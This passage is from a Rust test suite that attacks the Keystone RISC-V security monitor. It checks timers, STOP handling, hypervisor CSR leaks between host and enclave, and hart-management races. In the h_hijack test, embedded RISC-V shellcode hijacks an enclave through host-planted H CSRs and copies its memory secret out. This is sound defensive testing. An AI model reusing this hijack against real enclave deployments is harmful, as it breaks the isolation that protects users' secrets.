//! `-append attacks`: an adversarial suite against the SM. The payload plays
//! a hostile host (and `test_enclave` a hostile enclave); each attack is one
//! TAP check named by its class:
//!
//! | class      | what crosses (or must not)                                             |
//! |------------|------------------------------------------------------------------------|
//! | `timer`    | the host's deadline vs the enclave's set_timer, with and without Sstc  |
//! | `stop`     | STOP with a reason Keystone does not define                            |
//! | `h-state`  | hypervisor-extension CSRs, host -> enclave and enclave -> host         |
//! | `s-state`  | S-mode CSRs outside Keystone's list (senvcfg)                          |
//! | `h-ctl`    | one world steering the other through H CSRs (SPV, hedeleg, vstvec)     |
//! | `mpv`      | mstatus.MPV: the virtualisation mode across the world switch           |
//! | `hsm-race` | harts started, suspended, resumed, stopped while CREATE/DESTROY run    |
//!
//! `attack=reset-srst` / `attack=reset-testdev` run the two-stage reset attack
//! instead (see `reset`), `attack=vs-mprv` the vsstatus -> mstatus.MPRV attack
//! on the SM itself (see `vs_mprv`; it can take the old SM down, so it runs
//! alone). `rounds=N` sets the race rounds (default 2000).
//! H checks are `# SKIP`ped where the device tree's `riscv,isa` has no `h`
//! (or hstatus traps); races where there is one hart. Timer checks run on
//! every machine: the SM must keep the host's deadline with and without Sstc
//! (README, "Time belongs to the host"), they only fail without Sstc here.
//!
//! What each check expects of the SM (what a fixed SM must do to pass):
//!
//! * `timer` (no deadline armed): on a hart whose host never called
//!   set_timer, a counting enclave reaches its exit within 1000 RUN/RESUMEs
//!   (mtimecmp is initialised, not left at QEMU's reset value 0); on hart 0
//!   and on a never-started hart 1.
//! * `timer` (enclave set_timer(MAX)): with the host's deadline 1 ms ahead,
//!   the RUN/RESUME that follows the enclave's set_timer(u64::MAX) returns
//!   INTERRUPTED instead of the enclave's exit after its 300 M-step count.
//! * `timer` (own deadline): an enclave's set_timer(now + 1 ms) alone ends
//!   its run with INTERRUPTED.
//! * `timer` (after exit / edge-call STOP / exit after set_timer(MAX)): a
//!   host deadline 50 ms ahead armed before RUN raises sip.STIP within 1 s of
//!   RUN returning (MTIE/mtimecmp are the host's again).
//! * `stop`: STOP with reason 2, 7 or u64::MAX makes RUN return
//!   UNKNOWN_ERROR (100000); after reason 7, RESUME continues after the STOP
//!   ecall (the enclave then exits, error 0).
//! * `h-state`/`h-ctl`/`mpv` (H harts): a fresh enclave reads none of the 19
//!   H/VS CSR values the host planted (`PLANT`, host column; hstatus.SPV = 0
//!   in particular) and its first sret (no trap before it) stays in HS-mode
//!   (it reads its own sscratch 0x5c5c, exits 0x600d; host-planted hedeleg +
//!   vstvec run no host code); after its edge-call STOP the host reads back
//!   exactly the 19 values it had before RUN (none of the enclave's), and
//!   after RESUME the enclave reads none of the host's; an enclave that
//!   entered VS-mode (hstatus.SPV, sret) and is interrupted hands the host
//!   back with V = 0 (mstatus.MPV not left at 1: no trap with hstatus.SPV,
//!   sscratch is the host's hart id).
//! * `s-state`: senvcfg is per world (host 1 -> fresh enclave reads 0;
//!   enclave 1 -> host reads its 0 after STOP).
//! * `hsm-race`: no read of an EPM after its CREATE returned (and before its
//!   DESTROY began) succeeds on any hart, whatever HSM path brought that hart
//!   to S-mode (hart_start racing CREATE; suspend, resume, stop, restart).
//! * `reset-srst`: after SBI SRST cold reboot, the next boot finds none of
//!   the 512 secret words of the enclave that was alive (scrub on SRST, or at
//!   boot). `reset-testdev`: an S-mode store of 0x7777 to the SiFive test
//!   device (0x100000) raises a store access fault (scause 7, stval 0x100000).
//! * `vs-mprv`: after the host's VS-mode round trip with vsstatus bit 17 set,
//!   the SM still serves (an SBI call, an enclave run) and never panics.
//!
//! No attack can hang the run: every enclave loop is bounded, or the host's
//! own timer (armed before each RUN/RESUME) ends it; a host handed back in
//! V-mode is brought back to HS-mode by the trap handler (`traps`).

use crate::enclaves::{args, command, create_raw, ks, load_image, utm, utm_word};
use crate::harts::{self, wait_for};
use crate::sbi::{call, time, SbiRet, SECOND, SIP_STIP};
use crate::tap::{check, skip};
use crate::{test_enclave, traps};
use core::fmt::Write;
use core::sync::atomic::{AtomicBool, AtomicUsize, Ordering::SeqCst};
use keystone_abi::layout::MAX_HARTS;
use keystone_abi::sm::{err, fid, CreateArgs};
use sbi_spec::hsm::{self, hart_state};

// ------------------------------------------------------------------ machine

/// What the device tree (and a probe) says about the harts.
#[derive(Clone, Copy)]
pub struct Hw {
    pub me: usize,
    pub harts: [bool; MAX_HARTS],
    pub count: usize,
    /// Every hart's ISA string has `h`, and hstatus is reachable from S-mode.
    pub has_h: bool,
    /// Every hart's ISA string has `sstc`.
    pub sstc: bool,
}

impl Hw {
    pub fn from_fdt(fdt: &fdt::Fdt, me: usize) -> Self {
        let mut hw = Hw { me, harts: [false; MAX_HARTS], count: 0, has_h: true, sstc: true };
        for cpu in fdt.cpus() {
            let id = cpu.ids().first();
            if id < MAX_HARTS {
                hw.harts[id] = true;
                hw.count += 1;
            }
            let isa = cpu.property("riscv,isa").and_then(|p| p.as_str()).unwrap_or("");
            let base = isa.split('_').next().unwrap_or("");
            hw.has_h &= base.strip_prefix("rv64").is_some_and(|letters| letters.contains('h'));
            hw.sstc &= isa.split('_').any(|ext| ext == "sstc");
        }
        if hw.has_h {
            // The SM may have turned H off (misa): then hstatus traps.
            hw.has_h = traps::catch(|| {
                csr_read(0x600);
            })
            .is_none();
        }
        traps::HAS_H.store(hw.has_h, SeqCst);
        hw
    }

    pub fn others(&self) -> impl Iterator<Item = usize> + '_ {
        (0..MAX_HARTS).filter(move |&h| self.harts[h] && h != self.me)
    }

    fn others_mask(&self) -> usize {
        self.others().fold(0, |m, h| m | (1 << h))
    }
}

/// Reads CSR `n` of the attack lists (H/VS CSRs and senvcfg).
pub fn csr_read(n: usize) -> Option<usize> {
    macro_rules! arms {
        ($($c:literal)*) => {
            match n {
                $($c => {
                    let v: usize;
                    // SAFETY: a CSR read; callers only touch CSRs the hart has
                    // (or probe under traps::catch).
                    unsafe { core::arch::asm!(concat!("csrr {0}, ", stringify!($c)), out(reg) v) };
                    Some(v)
                })*
                _ => None,
            }
        };
    }
    arms!(0x600 0x602 0x603 0x604 0x605 0x606 0x60a 0x643 0x645 0x64a 0x680
          0x200 0x204 0x205 0x240 0x241 0x242 0x243 0x280 0x10a)
}

/// Writes CSR `n` of the attack lists; false if `n` is not one of them.
pub fn csr_write(n: usize, v: usize) -> bool {
    macro_rules! arms {
        ($($c:literal)*) => {
            match n {
                $($c => {
                    // SAFETY: the host's own H/VS CSRs: they only steer V-mode
                    // (which the host never enters) and the enclave (the attack).
                    unsafe { core::arch::asm!(concat!("csrw ", stringify!($c), ", {0}"), in(reg) v) };
                    true
                })*
                _ => false,
            }
        };
    }
    arms!(0x600 0x602 0x603 0x604 0x605 0x606 0x60a 0x643 0x645 0x64a 0x680
          0x200 0x204 0x205 0x240 0x241 0x242 0x243 0x280 0x10a)
}

pub fn csr_name(n: usize) -> &'static str {
    match n {
        0x600 => "hstatus",
        0x602 => "hedeleg",
        0x603 => "hideleg",
        0x604 => "hie",
        0x605 => "htimedelta",
        0x606 => "hcounteren",
        0x60a => "henvcfg",
        0x643 => "htval",
        0x645 => "hvip",
        0x64a => "htinst",
        0x680 => "hgatp",
        0x200 => "vsstatus",
        0x204 => "vsie",
        0x205 => "vstvec",
        0x240 => "vsscratch",
        0x241 => "vsepc",
        0x242 => "vscause",
        0x243 => "vstval",
        0x280 => "vsatp",
        0x10a => "senvcfg",
        _ => "?",
    }
}

const SENVCFG: usize = 0x10a;
const HSTATUS: usize = 0x600;
const HEDELEG: usize = 0x602;
const VSTVEC: usize = 0x205;
const VSSCRATCH: usize = 0x240;
const HSTATUS_SPV: usize = 1 << 7;
const N_H: usize = 19;

/// (CSR, the host's value, the enclave's value): legal, distinct, and
/// recognisable (0xe5c… = enclave secret, 0x405… = host).
const PLANT: [(usize, usize, usize); N_H] = [
    (0x600, 0x380, 0x40_0000), // hstatus: host SPV|SPVP|HU, enclave VTSR
    (0x602, 0xb000, 0x109),    // hedeleg
    (0x603, 0x4, 0x440),       // hideleg (VS interrupts only)
    (0x604, 0x4, 0x40),        // hie
    (0x605, 0x1000, 0xe5c0_0000),
    (0x606, 0x2, 0x5),                                             // hcounteren
    (0x60a, 1 << 63, 0x1), // henvcfg: host STCE (where Sstc), enclave FIOM
    (0x643, 0x4567, 0xe5c_1234), // htval
    (0x645, 0x4, 0x40),    // hvip (delegated by hideleg in both worlds)
    (0x64a, 0x13, 0x73),   // htinst (QEMU may keep it 0)
    (0x680, (8 << 60) | 0x8f000, (8 << 60) | (5 << 44) | 0x8f104), // hgatp Sv39x4
    (0x200, 0x8_0000, 0x4_0000), // vsstatus: host MXR, enclave SUM
    (0x204, 0x2, 0x20),    // vsie
    (0x205, 0x8020_0100, 0x8106_1000), // vstvec
    (0x240, 0x4057_5c2a_7c40, 0xe5c2_e75c_2a7c_4000), // vsscratch
    (0x241, 0x8020_2000, 0x8106_2000), // vsepc
    (0x242, 0x5, 0xd),     // vscause
    (0x243, 0x405_77a1, 0xe5c0_77a1), // vstval
    (0x280, (8 << 60) | (0x40 << 44) | 0x8f300, (8 << 60) | (0xe5 << 44) | 0x81063), // vsatp
];

/// Host mark in vsscratch: a host reading it as "sscratch" runs in V-mode.
const HOST_VS_MARK: usize = 0x4057_0000_0000_0f5c;

fn h_list() -> [usize; N_H] {
    let mut out = [0; N_H];
    let mut n = 0;
    for (i, c) in test_enclave::h_csrs().enumerate() {
        assert!(i < N_H && PLANT[i].0 == c, "PLANT and h_csr_list!() disagree at {i}");
        out[i] = c;
        n += 1;
    }
    assert!(n == N_H, "h_csr_list!() has {n} CSRs, PLANT {N_H}");
    out
}

fn h_read_all() -> [usize; N_H] {
    h_list().map(|c| csr_read(c).unwrap_or(usize::MAX))
}

/// The host's H/VS CSRs back to zero (a kernel that does not use H).
pub fn h_reset() {
    for c in h_list().into_iter().rev() {
        csr_write(c, 0);
    }
}

fn h_plant_host() {
    vstimecmp_far();
    for (c, host, _) in PLANT {
        csr_write(c, host);
    }
}

/// With Sstc, vstimecmp = 0 (its reset value) means VSTIP is due: QEMU only
/// evaluates it when vstimecmp is written, which the world switch does when
/// it gives the host its own value back. A host that does not time a guest
/// keeps it at the far future, so hvip reads back unchanged.
fn vstimecmp_far() {
    let _ = traps::catch(|| {
        // SAFETY: vstimecmp only times VS-mode, which the host never enters here.
        unsafe { core::arch::asm!("csrw 0x24d, {0}", in(reg) usize::MAX) };
    });
}

/// senvcfg, if the hart has it (priv 1.12).
fn senvcfg() -> Option<usize> {
    let mut v = None;
    let trapped = traps::catch(|| v = csr_read(SENVCFG));
    if trapped.is_some() {
        None
    } else {
        v
    }
}

/// A short text buffer for check details.
struct Text {
    buf: [u8; 400],
    len: usize,
}

impl Text {
    fn new() -> Self {
        Text { buf: [0; 400], len: 0 }
    }
    fn as_str(&self) -> &str {
        core::str::from_utf8(&self.buf[..self.len]).unwrap_or("?")
    }
}

impl Write for Text {
    fn write_str(&mut self, s: &str) -> core::fmt::Result {
        let n = s.len().min(self.buf.len() - self.len);
        self.buf[self.len..self.len + n].copy_from_slice(&s.as_bytes()[..n]);
        self.len += n;
        Ok(())
    }
}

impl core::fmt::Display for Text {
    fn fmt(&self, f: &mut core::fmt::Formatter) -> core::fmt::Result {
        f.write_str(if self.len == 0 { "none" } else { self.as_str() })
    }
}

// ------------------------------------------------------------- enclave runs

fn set_timer(when: u64) {
    call(sbi_spec::time::EID_TIME, sbi_spec::time::SET_TIMER, [when as usize, 0, 0]);
}

fn sscratch() -> usize {
    let v: usize;
    // SAFETY: reading sscratch has no side effect (in V-mode it reads vsscratch).
    unsafe { core::arch::asm!("csrr {0}, sscratch", out(reg) v) };
    v
}

fn utm_set(slot: usize, off: usize, v: u64) {
    // SAFETY: the UTM is host memory shared with the enclave.
    unsafe { utm(slot).add(off / 8).write_volatile(v) };
}

fn utm_get(slot: usize, off: usize) -> u64 {
    utm_word(slot, off / 8)
}

/// The host's deadline before each guarded RUN/RESUME: 10 ms.
pub const GUARD: u64 = SECOND / 100;
/// INTERRUPTED results a guarded run resumes through before it gives up.
pub const MAX_GUARDED: usize = 20;

/// What one guarded RUN/RESUME sequence saw.
pub struct Run {
    pub ret: SbiRet,
    pub interrupts: usize,
    /// Traps the host took with hstatus.SPV set: it came back in V-mode.
    pub virt: usize,
    /// sscratch right after the call, when it was not the hart id (V-mode).
    pub sscratch_seen: Option<usize>,
}

impl core::fmt::Display for Run {
    fn fmt(&self, f: &mut core::fmt::Formatter) -> core::fmt::Result {
        write!(
            f,
            "returned ({}, {:#x}) after {} INTERRUPTED; host came back in V-mode {} time(s)",
            self.ret.error as isize, self.ret.value, self.interrupts, self.virt
        )?;
        if let Some(s) = self.sscratch_seen {
            write!(f, ", its sscratch read {s:#x}")?;
        }
        Ok(())
    }
}

/// RUN (`first`) or RESUME `eid`, with the host's timer armed `ticks` ahead
/// before every call and sie.STIE on (sstatus.SIE off), so that a host the
/// SM hands back in V-mode takes its timer into HS-mode at once (where the
/// trap handler counts it and clears SPV). Resumes up to `max_interrupts`.
pub fn guarded(me: usize, eid: usize, first: bool, ticks: u64, max_interrupts: usize) -> Run {
    let v0 = traps::VIRT_TRAPS.load(SeqCst);
    let mut run =
        Run { ret: SbiRet { error: 0, value: 0 }, interrupts: 0, virt: 0, sscratch_seen: None };
    let mut f = if first { fid::RUN_ENCLAVE } else { fid::RESUME_ENCLAVE };
    loop {
        set_timer(time() + ticks);
        // SAFETY: enables only the supervisor timer at HS; SIE stays clear.
        unsafe { core::arch::asm!("csrs sie, {0}", in(reg) SIP_STIP) };
        let ret = ks(f, eid);
        let ss = sscratch();
        if ss != me {
            // V-mode and no trap yet: no CSR or ecall works here; wait (on
            // memory only) for the timer to take the hart into HS-mode.
            run.sscratch_seen = Some(ss);
            let before = traps::VIRT_TRAPS.load(SeqCst);
            let mut spins = 0u64;
            while traps::VIRT_TRAPS.load(SeqCst) == before && spins < 2_000_000_000 {
                spins += 1;
                core::hint::spin_loop();
            }
        }
        // SAFETY: back to polling; set_timer(MAX) also withdraws STIP.
        unsafe { core::arch::asm!("csrc sie, {0}", in(reg) SIP_STIP) };
        set_timer(u64::MAX);
        run.ret = ret;
        if ret.error != err::INTERRUPTED || run.interrupts >= max_interrupts {
            break;
        }
        run.interrupts += 1;
        f = fid::RESUME_ENCLAVE;
    }
    run.virt = traps::VIRT_TRAPS.load(SeqCst) - v0;
    run
}

/// Plain RUN, then RESUME while INTERRUPTED, at most `max` times; no timer armed.
fn run_bounded(eid: usize, max: usize) -> (SbiRet, usize) {
    let mut ret = ks(fid::RUN_ENCLAVE, eid);
    let mut n = 0;
    while ret.error == err::INTERRUPTED && n < max {
        n += 1;
        ret = ks(fid::RESUME_ENCLAVE, eid);
    }
    (ret, n)
}

/// Creates the test enclave from pool slot `slot`; the eid or the error.
fn make(slot: usize) -> Result<usize, usize> {
    let a = args(slot);
    load_image(&a);
    put_secret(&a);
    let ret = create_raw(&a);
    if ret.error == 0 {
        Ok(ret.value)
    } else {
        Err(ret.error)
    }
}

fn destroy(eid: usize) -> SbiRet {
    ks(fid::DESTROY_ENCLAVE, eid)
}

/// Where the host hides a secret in an EPM before CREATE (free memory, not
/// measured): a read of it after CREATE is a read of enclave memory.
const SECRET_OFF: usize = 0x8000;
const SECRET_WORDS: usize = 64;
/// A word of the measured first page no code uses: a write there after
/// CREATE changes the enclave behind its measurement.
const PATCH_OFF: usize = 0xff8;
const PATCH: u64 = 0xbad0_c0de_5eed_f00d;

fn secret_word(epm: usize, i: usize) -> u64 {
    0x5ec2_e700_0000_0000 ^ (epm as u64) ^ (i as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15)
}

fn put_secret(a: &CreateArgs) {
    let epm = a.epm_paddr as usize;
    for i in 0..SECRET_WORDS {
        // SAFETY: the EPM pool is payload memory until CREATE.
        unsafe { ((epm + SECRET_OFF + 8 * i) as *mut u64).write_volatile(secret_word(epm, i)) };
    }
}

fn load(addr: usize) -> u64 {
    let v: u64;
    // SAFETY: a probe; a fault is caught by traps::catch around it.
    unsafe { core::arch::asm!("ld {0}, 0({1})", out(reg) v, in(reg) addr) };
    v
}

fn store(addr: usize, v: u64) {
    // SAFETY: as for `load`.
    unsafe { core::arch::asm!("sd {0}, 0({1})", in(reg) v, in(reg) addr) };
}

// ----------------------------------------------------------------- the run

/// Bootargs `attacks [rounds=N]`.
pub fn run(fdt: &fdt::Fdt, me: usize, bootargs: &str) {
    let hw = Hw::from_fdt(fdt, me);
    let isa = fdt
        .cpus()
        .next()
        .and_then(|c| c.property("riscv,isa"))
        .and_then(|p| p.as_str())
        .unwrap_or("?");
    crate::println!(
        "# attacks: {} hart(s), H {}, Sstc {}, isa {isa}",
        hw.count,
        if hw.has_h { "yes" } else { "no" },
        if hw.sstc { "yes" } else { "no" }
    );
    let rounds = crate::tap::arg_value(bootargs, "rounds=").unwrap_or(2000) as usize;
    // First, before anything arms a timer on any hart.
    timer_never_armed(&hw);
    set_timer(u64::MAX);
    timers();
    stop_reasons();
    if hw.has_h {
        h_host_to_enclave(&hw);
        h_first_sret(&hw);
        h_hijack(&hw);
        h_swap(&hw);
        h_one_csr(&hw);
        h_idle_host(&hw);
        mpv(&hw);
    } else {
        for name in [
            "h-state: none of the host's H/VS CSRs reach a fresh enclave",
            "h-state: a fresh enclave starts with hstatus.SPV = 0",
            "h-state: the host's hstatus.SPV = 1 does not send the enclave's first sret into V-mode",
            "h-ctl: host-planted hstatus.SPV, hedeleg and vstvec cannot run host code inside the enclave",
            "h-state: the enclave's H/VS CSRs do not reach the host after STOP",
            "h-state: the host gets its own H/VS CSRs back after STOP",
            "h-state: at RESUME the enclave does not see the host's H/VS CSRs",
            "h-state: any one H/VS CSR the host alone sets does not reach a fresh enclave",
            "h-state: the host gets back any one H/VS CSR it alone set",
            "h-state: a host that leaves H alone reads its own idle H/VS CSRs after the enclave's STOP",
            "h-state: with a host that leaves H alone, the enclave gets its own H/VS CSRs back at RESUME",
            "mpv: an enclave interrupted in VS-mode hands the host back with V=0",
        ] {
            skip!("{name}"; "no H extension on this hart");
        }
    }
    s_state(&hw);
    if hw.count >= 2 {
        race_start(&hw, rounds);
        race_hsm_cycle(&hw, rounds / 2);
    } else {
        skip!("hsm-race: a hart being started cannot read or write an EPM CREATE closed"; "one hart");
        skip!("hsm-race: harts suspending, resuming and stopping never read a live EPM"; "one hart");
    }
}

/// Jobs other harts run (`harts::TAG_ATTACK | job`).
const JOB_RACE: usize = 1;
const JOB_PROBE: usize = 2;
pub const JOB_HSMFUZZ: usize = 3;
const JOB_NOTIMER: usize = 4;
const JOB_SEALER: usize = 5;

pub fn secondary(me: usize, job: usize) {
    match job {
        JOB_RACE => race_job(me),
        JOB_PROBE => probe_job(me),
        JOB_HSMFUZZ => hsm_fuzz_job(me),
        JOB_NOTIMER => notimer_job(me),
        JOB_SEALER => sealer_job(me),
        _ => {}
    }
}

pub fn start_job(hart: usize, job: usize) -> SbiRet {
    call(
        hsm::EID_HSM,
        hsm::HART_START,
        [hart, crate::rt::secondary_entry(), harts::TAG_ATTACK | job],
    )
}

fn status(hart: usize) -> usize {
    call(hsm::EID_HSM, hsm::HART_GET_STATUS, [hart, 0, 0]).value
}

// ------------------------------------------------------------------ timers

const COUNT_LONG: u64 = 300_000_000;
const COUNT_SHORT: u64 = 200_000;
/// RUN/RESUMEs allowed for a short count when no deadline is armed.
const MAX_STOPS_IDLE: usize = 1000;

/// Runs a short counting enclave from `slot` with no timer ever armed on
/// this hart; (exit ok, detail).
fn count_without_deadline(slot: usize) -> (bool, SbiRet, usize) {
    let Ok(eid) = make(slot) else { return (false, SbiRet { error: usize::MAX, value: 0 }, 0) };
    command(slot, 3, COUNT_SHORT, 0);
    let (ret, n) = run_bounded(eid, MAX_STOPS_IDLE);
    destroy(eid);
    (ret.error == 0 && ret.value as u64 == COUNT_SHORT, ret, n)
}

static NOTIMER_RESULT: AtomicUsize = AtomicUsize::new(0);
static NOTIMER_STOPS: AtomicUsize = AtomicUsize::new(0);

fn notimer_job(_me: usize) {
    let (ok, ret, n) = count_without_deadline(1);
    NOTIMER_STOPS.store(n, SeqCst);
    NOTIMER_RESULT.store(if ok { 1 } else { 2 + (ret.error & 0xffff_ffff) }, SeqCst);
}

/// Finding 5c: with no deadline ever armed (QEMU resets mtimecmp to 0),
/// RUN/RESUME must still let the enclave progress.
fn timer_never_armed(hw: &Hw) {
    let (ok, ret, n) = count_without_deadline(0);
    check!(ok, "timer: with no host deadline armed, RUN lets the enclave run to its exit (hart {})", hw.me;
        "counting to {COUNT_SHORT} returned ({}, {:#x}) after {n} INTERRUPTED (limit {MAX_STOPS_IDLE})", ret.error as isize, ret.value);
    if let Some(other) = hw.others().next() {
        NOTIMER_RESULT.store(0, SeqCst);
        start_job(other, JOB_NOTIMER);
        let done = wait_for(60 * SECOND, || NOTIMER_RESULT.load(SeqCst) != 0);
        let r = NOTIMER_RESULT.load(SeqCst);
        check!(done && r == 1, "timer: with no host deadline armed, RUN lets the enclave run to its exit (hart {other}, never armed)";
            "done {done}, result {}, {} INTERRUPTED", r as isize - 2, NOTIMER_STOPS.load(SeqCst));
        wait_for(SECOND, || status(other) == hart_state::STOPPED);
    }
}

fn timers() {
    // 5a: the enclave's set_timer(MAX) must not lift the host's deadline.
    // (Re-armed until the enclave has made its call: a first RUN can be
    // slower than the deadline.)
    if let Ok(eid) = make(0) {
        command(0, 17, COUNT_LONG, 0);
        let mut f = fid::RUN_ENCLAVE;
        let (mut ret, mut tries, mut ms) = (SbiRet { error: 0, value: 0 }, 0, 0);
        while tries < 100 {
            let t0 = time();
            set_timer(t0 + SECOND / 1000);
            ret = ks(f, eid);
            ms = (time() - t0) / (SECOND / 1000);
            set_timer(u64::MAX);
            f = fid::RESUME_ENCLAVE;
            tries += 1;
            if ret.error != err::INTERRUPTED || utm_get(0, 0x50) == 1 {
                break;
            }
        }
        check!(ret.error == err::INTERRUPTED && utm_get(0, 0x50) == 1,
            "timer: an enclave's set_timer(u64::MAX) cannot hold the hart past the host's deadline";
            "host deadline 1 ms; the call after the enclave's set_timer returned ({}, {}) after {ms} ms: the enclave counted to the end", ret.error as isize, ret.value);
        destroy(eid);
    }
    // The enclave's own deadline ends its run (Keystone/Eyrie rely on it).
    if let Ok(eid) = make(0) {
        command(0, 17, COUNT_LONG, SECOND / 1000);
        let t0 = time();
        let ret = ks(fid::RUN_ENCLAVE, eid);
        let ms = (time() - t0) / (SECOND / 1000);
        set_timer(u64::MAX);
        check!(ret.error == err::INTERRUPTED, "timer: an enclave's own set_timer(now + 1 ms) ends its run with INTERRUPTED";
            "RUN returned ({}, {}) after {ms} ms", ret.error as isize, ret.value);
        destroy(eid);
    }
    // 5b: after the enclave leaves, the host's armed deadline still fires.
    for (what, cmd, arg) in [
        ("an enclave exit", 1u64, 0x55u64),
        ("an enclave's edge-call STOP", 2, 0),
        ("an enclave exit that followed its set_timer(u64::MAX)", 17, 1000),
    ] {
        let Ok(eid) = make(0) else { continue };
        command(0, cmd, arg, 0);
        let deadline = time() + SECOND / 20;
        set_timer(deadline);
        let ret = ks(fid::RUN_ENCLAVE, eid);
        let back = time();
        let fired = wait_for(SECOND, || crate::sbi::sip() & SIP_STIP != 0);
        let early = back >= deadline;
        check!(fired, "timer: the host's armed timer still fires after {what}";
            "RUN returned ({}, {:#x}) {} the 50 ms deadline; no STIP within 1 s after it", ret.error as isize, ret.value,
            if early { "after" } else { "before" });
        set_timer(u64::MAX);
        if ret.error == err::EDGE_CALL_HOST {
            ks(fid::RESUME_ENCLAVE, eid);
        }
        destroy(eid);
    }
}

// -------------------------------------------------------------- STOP reasons

fn stop_reasons() {
    for reason in [2usize, 7, usize::MAX] {
        let Ok(eid) = make(0) else { continue };
        command(0, 18, reason as u64, 0);
        let (ret, _) = run_bounded(eid, 100);
        check!(ret.error == err::UNKNOWN_ERROR, "stop: STOP(reason {reason:#x}) stops the enclave and the host gets UNKNOWN_ERROR";
            "RUN returned ({}, {:#x}){}", ret.error as isize, ret.value,
            if ret.error == 0 { " (the STOP call returned to the enclave, which exited with that value)" } else { "" });
        if reason == 7 {
            let resumed = if ret.error == err::UNKNOWN_ERROR {
                Some(ks(fid::RESUME_ENCLAVE, eid))
            } else {
                None
            };
            let after = utm_get(0, 0x58);
            check!(resumed.is_some_and(|r| r.error == 0) && after == 0x5709,
                "stop: an enclave stopped for an unknown reason resumes after its STOP call";
                "RESUME {:?}, marker after STOP {:#x}", resumed.map(|r| (r.error as isize, r.value)), after);
        }
        destroy(eid);
    }
}

// ------------------------------------------------------------------ H state

/// Finding 1: the host's H/VS CSRs must not reach a fresh enclave.
fn h_host_to_enclave(hw: &Hw) {
    let Ok(eid) = make(0) else { return };
    command(0, 13, 1, 0);
    h_plant_host();
    let host = h_read_all();
    let run = guarded(hw.me, eid, true, GUARD, MAX_GUARDED);
    h_reset();
    let mut leaked = Text::new();
    for (i, c) in h_list().into_iter().enumerate() {
        let seen = utm_get(0, 0x100 + 8 * i) as usize;
        if host[i] != 0 && seen == host[i] {
            let _ = write!(leaked, "{}={:#x} ", csr_name(c), seen);
        }
    }
    let ok_run = run.ret.error == 0 && run.virt == 0;
    check!(ok_run && leaked.len == 0, "h-state: none of the host's H/VS CSRs reach a fresh enclave";
        "the enclave read the host's {leaked}; run {run}");
    let hs = utm_get(0, 0x100) as usize;
    check!(ok_run && hs & HSTATUS_SPV == 0, "h-state: a fresh enclave starts with hstatus.SPV = 0";
        "the enclave read hstatus {hs:#x} (host planted {:#x}); run {run}", host[0]);
    destroy(eid);
}

/// Finding 1: with the host's hstatus.SPV = 1, the enclave's first sret
/// (taken before any trap, as Eyrie's drop to the eapp) lands in V-mode.
fn h_first_sret(hw: &Hw) {
    let Ok(eid) = make(0) else { return };
    command(0, 16, 0, 0);
    h_reset();
    csr_write(VSSCRATCH, HOST_VS_MARK);
    csr_write(HSTATUS, HSTATUS_SPV);
    let run = guarded(hw.me, eid, true, GUARD, MAX_GUARDED);
    h_reset();
    let seen = utm_get(0, 0x68);
    check!(run.ret.error == 0 && run.ret.value == 0x600d && seen == 0x5c5c && run.virt == 0,
        "h-state: the host's hstatus.SPV = 1 does not send the enclave's first sret into V-mode";
        "after its sret the enclave read sscratch {seen:#x} (own 0x5c5c; {:#x} = the host's vsscratch: VS-mode); run {run}", HOST_VS_MARK);
    destroy(eid);
}

core::arch::global_asm!(
    r#"
    .section .rodata.attack_shellcode, "a"
    .balign 4
    .globl attack_shellcode_start
attack_shellcode_start:
    .option push
    .option norvc
    li      t0, 0x5ee1c0de
    sd      t0, 0x7f0(s0)
    li      t1, {secret}
    add     t1, s1, t1
    ld      t2, 0(t1)
    sd      t2, 0x7f8(s0)
1:  j       1b
    .option pop
    .globl attack_shellcode_end
attack_shellcode_end:
"#,
    secret = const SECRET_OFF,
);

unsafe extern "C" {
    static attack_shellcode_start: u8;
    static attack_shellcode_end: u8;
}

const SHELL_MARK: u64 = 0x5ee1_c0de;

/// Host code for the hijack: runs with the enclave's registers (s0 = UTM,
/// s1 = EPM base), copies the EPM secret into the UTM, spins.
fn shellcode() -> &'static [u8] {
    let start = core::ptr::addr_of!(attack_shellcode_start);
    let end = core::ptr::addr_of!(attack_shellcode_end) as usize;
    // SAFETY: both symbols delimit the block above, in .rodata.
    unsafe { core::slice::from_raw_parts(start, end - start as usize) }
}

/// Finding 1, as control: SPV + hedeleg(breakpoint) + vstvec planted by the
/// host send the enclave's ebreak to host code in the UTM, which then runs
/// with the enclave's PMP view and reads its EPM.
fn h_hijack(hw: &Hw) {
    let Ok(eid) = make(0) else { return };
    command(0, 16, 0, 0);
    let utm_pa = utm(0) as usize;
    let code = shellcode();
    // SAFETY: the UTM is host memory; the enclave may execute it.
    unsafe {
        core::ptr::copy_nonoverlapping(code.as_ptr(), (utm_pa + 0x800) as *mut u8, code.len())
    };
    h_reset();
    csr_write(VSSCRATCH, HOST_VS_MARK);
    csr_write(HEDELEG, 1 << 3);
    csr_write(VSTVEC, utm_pa + 0x800);
    csr_write(HSTATUS, HSTATUS_SPV);
    let run = guarded(hw.me, eid, true, GUARD, MAX_GUARDED);
    h_reset();
    let marker = utm_get(0, 0x7f0);
    let word = utm_get(0, 0x7f8);
    let secret = secret_word(args(0).epm_paddr as usize, 0);
    check!(marker != SHELL_MARK && run.ret.error == 0 && run.ret.value == 0x600d,
        "h-ctl: host-planted hstatus.SPV, hedeleg and vstvec cannot run host code inside the enclave";
        "host code ran in the enclave's world (marker {marker:#x}) and read its EPM secret word {word:#x}{}; run {run}",
        if word == secret { " (= the secret)" } else { "" });
    destroy(eid);
}

/// One STOP/RESUME of an enclave that uses H (command 14: it writes PLANT's
/// enclave column into its H/VS CSRs and reads them back around an edge-call
/// STOP), with `host` setting the host's own H state before RUN and, as a
/// kernel would, again before RESUME.
struct HRound {
    /// The host's H/VS CSRs just before RUN.
    host: [usize; N_H],
    /// RUN, to the enclave's STOP.
    run: Run,
    /// The host's H/VS CSRs right after that STOP.
    after: [usize; N_H],
    /// RESUME, to the enclave's exit.
    run2: Run,
}

fn h_round(hw: &Hw, eid: usize, host: impl Fn()) -> HRound {
    for (i, (_, _, enclave)) in PLANT.into_iter().enumerate() {
        utm_set(0, 0x100 + 8 * i, enclave as u64);
    }
    utm_set(0, 0x1f8, 0);
    command(0, 14, 0, 0);
    host();
    let before = h_read_all();
    let run = guarded(hw.me, eid, true, GUARD, MAX_GUARDED);
    let after = h_read_all();
    host();
    let run2 = guarded(hw.me, eid, false, GUARD, MAX_GUARDED);
    h_reset();
    HRound { host: before, run, after, run2 }
}

/// Finding 1 both ways, with the enclave as author: its H/VS CSRs must not
/// reach the host at STOP, the host must get its own back, and at RESUME the
/// enclave must not see the host's.
fn h_swap(hw: &Hw) {
